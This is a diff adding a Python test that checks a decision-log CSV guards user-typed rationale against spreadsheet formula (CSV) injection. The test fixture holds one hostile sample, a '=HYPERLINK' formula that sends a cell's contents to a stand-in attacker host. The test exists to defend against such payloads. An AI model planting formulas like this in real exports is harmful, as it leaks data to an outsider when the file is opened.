@@ -144,3 +144,20 @@ def test_a_portfolio_from_a_workbook_keeps_its_log_beside_it(tmp_path) -> None:
     again = load_workbook(book)
     assert apply_decisions(again).set_index("cr_id").loc[cr, "decision"] == "approved"
     assert rollup(again)["project_id"].tolist() == pf.projects["project_id"].tolist()
+
+
+def test_a_rationale_a_spreadsheet_would_run_is_guarded_in_the_log(tmp_path) -> None:
+    """The board types the rationale on a dashboard; the log is a CSV an auditor opens in
+    Excel, where ``=HYPERLINK(...)`` ran (OWASP's CSV injection). It is written with a guard
+    apostrophe and read back exactly as typed."""
+    import csv
+
+    _pf(tmp_path)
+    why = '=HYPERLINK("http://evil.example/?"&A1,"costed")'
+    record_decision(tmp_path, "C2", "approve", "@board", why)
+    with open(tmp_path / LOG_FILE, encoding="utf-8", newline="") as fh:
+        head, row = list(csv.reader(fh))
+    cells = dict(zip(head, row, strict=True))
+    assert cells["rationale"] == "'" + why and cells["decided_by"] == "'@board"
+    log = load_decisions(tmp_path / LOG_FILE)
+    assert log.loc[0, "rationale"] == why and log.loc[0, "decided_by"] == "@board"
